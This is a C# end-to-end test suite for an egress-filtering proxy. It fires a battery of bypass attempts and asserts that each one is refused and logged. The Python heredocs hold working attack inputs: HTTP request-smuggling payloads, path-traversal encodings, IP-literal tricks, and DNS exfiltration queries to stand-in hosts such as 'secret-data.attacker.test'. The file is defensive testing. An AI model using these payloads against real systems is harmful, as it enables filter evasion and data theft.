using System.Net;
using System.Net.Sockets;
using Hive.EndToEnd.Infrastructure;

namespace Hive.EndToEnd;

/// <summary>The attack battery of the egress issue: every case is refused and evented.</summary>
[Collection("egress")]
public sealed class EgressAttackTests(EgressDaemon fx)
{
    private const string ApiOnly = """[{ "access": "allow", "host": "api.example.test", "paths": ["/echo/v1/**"] }]""";

    private async Task<string> CodeAsync(string curlArgs) =>
        (await fx.ShAsync($"curl -sS -m 10 -o /dev/null -w '%{{http_code}}' {curlArgs}; echo \" exit $?\"")).Stdout.Trim();

    [Fact]
    public async Task Host_header_other_than_the_destination_gets_421()
    {
        await fx.RulesAsync("""[{ "access": "allow", "host": "api.example.test" }]""");
        var before = await fx.LastEventIdAsync();
        Assert.StartsWith("421", await CodeAsync("-H \"Host: other.example.test:$HTTPS\" https://api.example.test:$HTTPS/echo"));
        Assert.StartsWith("421", await CodeAsync("-H \"Host: other.example.test:$HTTP\" http://api.example.test:$HTTP/echo"));
        Assert.Contains(await fx.EventsAfterAsync(before, "egress.request"), e => e.Get<string>("access") == "denied");
    }

    [Fact]
    public async Task Sni_other_than_the_name_behind_the_synthetic_address_is_refused_at_the_handshake()
    {
        await fx.RulesAsync("""[{ "access": "allow", "host": "*.example.test" }]""");
        // Connect to other.example.test's synthetic address while claiming api.example.test in SNI.
        var r = await CodeAsync("--connect-to api.example.test:$HTTPS:other.example.test:$HTTPS https://api.example.test:$HTTPS/echo");
        Assert.EndsWith("exit 35", r);
    }

    [Fact]
    public async Task Absolute_form_target_for_another_host_is_refused()
    {
        await fx.RulesAsync("""[{ "access": "allow", "host": "api.example.test" }]""");
        var before = await fx.LastEventIdAsync();
        // Target and Host agree with each other but not with the connection's destination: 421, evented.
        Assert.StartsWith("421", await CodeAsync("--request-target http://other.example.test:$HTTP/echo -H \"Host: other.example.test:$HTTP\" http://api.example.test:$HTTP/echo"));
        Assert.Contains(await fx.EventsAfterAsync(before, "egress.request"), e => e.Get<string>("access") == "denied");
        // Target disagreeing with Host: Kestrel refuses the request itself (400) before it could be forwarded.
        var mixed = await CodeAsync("--request-target http://other.example.test:$HTTP/echo http://api.example.test:$HTTP/echo");
        Assert.True(mixed.StartsWith("400") || mixed.StartsWith("421"), mixed);
    }

    [Theory]
    [InlineData("/echo/v1/%2e%2e/admin")]
    [InlineData("/echo/v1/..%2fadmin")]
    [InlineData("/echo/v1/%2E%2E/admin")]
    [InlineData("/echo/v1/..%5cadmin")]
    [InlineData("/echo/v1/../../admin")]
    [InlineData("//echo/admin")]
    public async Task Encoded_slashes_and_dot_segments_do_not_escape_a_path_rule(string path)
    {
        await fx.RulesAsync(ApiOnly);
        Assert.StartsWith("403", await CodeAsync($"--path-as-is \"https://api.example.test:$HTTPS{path}\""));
    }

    [Fact]
    public async Task Ip_literals_in_every_spelling_are_the_ip_and_no_name_rule_allows_them()
    {
        await fx.RulesAsync("""[{ "access": "allow", "host": "api.example.test" }]""");
        var gateway = (await fx.ShAsync("ip route | awk '/default/ {print $3}'")).Stdout.Trim();
        var octets = gateway.Split('.').Select(int.Parse).ToArray();
        var asInt = ((long)octets[0] << 24) | ((long)octets[1] << 16) | ((long)octets[2] << 8) | (long)octets[3];
        var spellings = new[] { gateway, asInt.ToString(), $"0x{asInt:x}", $"0x{octets[0]:x}.{octets[1]}.{octets[2]}.{octets[3]}", $"[::ffff:{gateway}]" };
        var before = await fx.LastEventIdAsync();
        foreach (var host in spellings)
        {
            var r = await CodeAsync($"-H \"Host: api.example.test:$HTTP\" http://{host}:$HTTP/echo");
            Assert.False(r.StartsWith("200"), $"{host}: {r}");
        }
        var events = await fx.EventsAfterAsync(before, "egress.request");
        Assert.NotEmpty(events);
        Assert.All(events, e => Assert.Equal("denied", e.Get<string>("access")));
    }

    [Fact]
    public async Task Smuggling_trace_and_connect_are_refused()
    {
        await fx.RulesAsync(ApiOnly.Replace("\"paths\"", "\"ports\": [$HTTP], \"paths\""));
        var r = await fx.ShAsync("""
            python3 - <<'PY'
            import socket, os
            def send(raw):
                s = socket.create_connection(("api.example.test", int(os.environ["HTTP"])), timeout=5)
                s.sendall(raw.replace(b"PORT", os.environ["HTTP"].encode()))
                data = b""
                try:
                    while True:
                        chunk = s.recv(65536)
                        if not chunk: break
                        data += chunk
                except socket.timeout: pass
                return [l for l in data.decode(errors="replace").split("\r\n") if l.startswith("HTTP/1.1")]
            # CL+TE: the smuggled second request is a request of its own, and is decided on its own.
            print("cl-te", send(b"POST /echo/v1/a HTTP/1.1\r\nHost: api.example.test:PORT\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /echo/admin HTTP/1.1\r\nHost: api.example.test:PORT\r\nConnection: close\r\n\r\n"))
            print("dup-cl", send(b"POST /echo/v1/a HTTP/1.1\r\nHost: api.example.test:PORT\r\nContent-Length: 3\r\nContent-Length: 30\r\nConnection: close\r\n\r\nabc"))
            print("obs-fold", send(b"GET /echo/v1/a HTTP/1.1\r\nHost: api.example.test:PORT\r\nX-A: a\r\n b\r\nConnection: close\r\n\r\n"))
            print("trace", send(b"TRACE /echo/v1/a HTTP/1.1\r\nHost: api.example.test:PORT\r\nConnection: close\r\n\r\n"))
            print("connect", send(b"CONNECT other.example.test:443 HTTP/1.1\r\nHost: other.example.test:443\r\nConnection: close\r\n\r\n"))
            PY
            """);
        var lines = r.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries).ToDictionary(l => l.Split(' ')[0], l => l);
        Assert.DoesNotContain("200", lines["cl-te"].Split(',').Skip(1).FirstOrDefault() ?? "");  // the smuggled /echo/admin is not allowed
        Assert.Contains("400", lines["dup-cl"]);
        Assert.Contains("400", lines["obs-fold"]);
        Assert.Contains("405", lines["trace"]);
        Assert.DoesNotContain("200", lines["connect"]);
    }

    [Fact]
    public async Task Dns_refuses_exfiltration_and_udp_goes_nowhere()
    {
        await fx.RulesAsync("""[{ "access": "allow", "host": "api.example.test" }]""");
        using var udp = new UdpClient(new IPEndPoint(IPAddress.Any, 0));
        var udpPort = ((IPEndPoint)udp.Client.LocalEndPoint!).Port;
        var before = await fx.LastEventIdAsync();
        var r = await fx.ShAsync($$"""
            python3 - <<'PY'
            import socket, struct, os
            ns = open("/etc/resolv.conf").read().split()[1]
            def ask(name, qtype):
                q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
                for label in name.split("."): q += bytes([len(label)]) + label.encode()
                q += b"\0" + struct.pack(">HH", qtype, 1)
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, (ns, 53))
                r = s.recv(4096); flags, an = struct.unpack(">H", r[2:4])[0], struct.unpack(">H", r[6:8])[0]
                return "rcode=%d answers=%d" % (flags & 15, an)
            print("txt-allowed", ask("api.example.test", 16))
            print("any-allowed", ask("api.example.test", 255))
            print("txt-unlisted", ask("secret-data.attacker.test", 16))
            print("long-label", ask("a" * 63 + "." + "b" * 63 + ".exfil.test", 1))
            print("a-allowed", ask("api.example.test", 1))
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            gw = [l.split()[2] for l in os.popen("ip route") if l.startswith("default")][0]
            for port in ({{udpPort}}, 443, 9):
                try: u.sendto(b"leak", (gw, port))
                except OSError: pass
            print("udp sent")
            PY
            """);
        var lines = r.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries).ToDictionary(l => l.Split(' ')[0], l => l);
        Assert.Contains("rcode=0 answers=0", lines["txt-allowed"]);
        Assert.Contains("rcode=0 answers=0", lines["any-allowed"]);
        Assert.Contains("rcode=3", lines["txt-unlisted"]);
        Assert.Contains("rcode=3", lines["long-label"]);
        Assert.Contains("rcode=0 answers=1", lines["a-allowed"]);
        await Task.Delay(500);
        Assert.Equal(0, udp.Available);
        var dns = await fx.EventsAfterAsync(before, "dns.query");
        Assert.Contains(dns, e => e.Get<string>("qtype") == "TXT" && e.Get<string>("answer") == "nxdomain");
    }

    [Fact]
    public async Task Many_half_open_connections_leave_the_proxy_responsive()
    {
        await fx.RulesAsync("""[{ "access": "allow", "host": "api.example.test" }]""");
        var r = await fx.ShAsync("""
            python3 - <<'PY'
            import socket, os, subprocess, time, resource
            _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
            resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
            socks = []
            for i in range(1000):
                try: socks.append(socket.create_connection(("api.example.test", int(os.environ["HTTPS"])), timeout=5))
                except OSError as e: print("connect failed", i, e); break
            start = time.time()
            code = subprocess.run(["curl", "-sS", "-m", "20", "-o", "/dev/null", "-w", "%{http_code}", "https://api.example.test:%s/echo" % os.environ["HTTPS"]], capture_output=True, text=True).stdout
            print("open", len(socks), "code", code, "seconds %.1f" % (time.time() - start))
            PY
            """, 120_000);
        Assert.Contains("open 1000 code 200", r.Stdout);
    }

    [Fact]
    public async Task A_client_hello_over_4_KiB_is_read_whole_and_still_checked()
    {
        await fx.RulesAsync("""[{ "access": "allow", "host": "api.example.test" }]""");
        // ALPN offers of 253 bytes each grow the ClientHello to about 5 KiB and 15 KiB (one TLS record is at most 16 KiB).
        var r = await fx.ShAsync("""
            python3 - <<'PY'
            import socket, ssl, os
            port = int(os.environ["HTTPS"])
            def hello(offers, sni):
                ctx = ssl.create_default_context()
                ctx.set_alpn_protocols(["x" * 250 + "%03d" % i for i in range(offers)] + ["http/1.1"])
                try:
                    with ctx.wrap_socket(socket.create_connection(("api.example.test", port), timeout=10), server_hostname=sni) as s:
                        s.sendall(b"GET /echo HTTP/1.1\r\nHost: api.example.test:%d\r\nConnection: close\r\n\r\n" % port)
                        data = b""
                        while chunk := s.recv(65536): data += chunk
                        return data.split(b"\r\n")[0].decode()
                except (ssl.SSLError, OSError) as e:
                    return "error " + str(e)
            for offers in (20, 58):
                print(offers, "allowed:", hello(offers, "api.example.test"))
                print(offers, "other sni:", hello(offers, "other.example.test"))
            PY
            """);
        var lines = r.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Contains("20 allowed: HTTP/1.1 200 OK", lines);
        Assert.Contains("58 allowed: HTTP/1.1 200 OK", lines);
        Assert.All(lines.Where(l => l.Contains("other sni")), l => Assert.Contains("ACCESS_DENIED", l));
    }

    [Fact]
    public async Task Http2_stream_for_a_second_host_on_a_reused_connection_gets_421()
    {
        await fx.RulesAsync("""[{ "access": "allow", "host": "*.example.test" }]""");
        var before = await fx.LastEventIdAsync();
        // A hand-written HTTP/2 client: two streams on one TLS connection to api.example.test, the second one
        // naming other.example.test in :authority (what a client coalescing connections would do).
        var r = await fx.ShAsync("""
            python3 - <<'PY'
            import socket, ssl, os, struct, re
            port = int(os.environ["HTTPS"])
            ctx = ssl.create_default_context()
            ctx.set_alpn_protocols(["h2"])
            s = ctx.wrap_socket(socket.create_connection(("api.example.test", port), timeout=10), server_hostname="api.example.test")
            assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
            def frame(kind, flags, stream, payload):
                return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
            def literal(name, value):
                return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
            def get(stream, authority):
                block = literal(":method", "GET") + literal(":scheme", "https") + literal(":path", "/echo") + literal(":authority", authority)
                return frame(1, 0x5, stream, block)
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
            s.sendall(get(1, "api.example.test:%d" % port) + get(3, "other.example.test:%d" % port))
            status, ended, buf = {}, set(), b""
            while ended != {1, 3}:
                while len(buf) < 9 or len(buf) < 9 + int.from_bytes(buf[:3], "big"):
                    chunk = s.recv(65536)
                    if not chunk: raise SystemExit("connection closed early: %r %r" % (status, ended))
                    buf += chunk
                n = int.from_bytes(buf[:3], "big"); kind, flags = buf[3], buf[4]
                stream = int.from_bytes(buf[5:9], "big") & 0x7fffffff; payload = buf[9:9 + n]; buf = buf[9 + n:]
                if kind == 1 and stream not in status:
                    m = re.search(rb"\x03(\d{3})", payload)
                    status[stream] = "200" if payload[:1] == b"\x88" else (m.group(1).decode() if m else payload.hex())
                if kind in (0, 1) and flags & 0x1: ended.add(stream)
            print("stream 1:", status[1]); print("stream 3:", status[3])
            PY
            """);
        Assert.Contains("stream 1: 200", r.Stdout);
        Assert.Contains("stream 3: 421", r.Stdout);
        var events = await fx.EventsAfterAsync(before, "egress.request");
        Assert.Contains(events, e => e.Get<string>("access") == "denied" && e.Get<string>("reason")!.Contains("other.example.test"));
    }
}
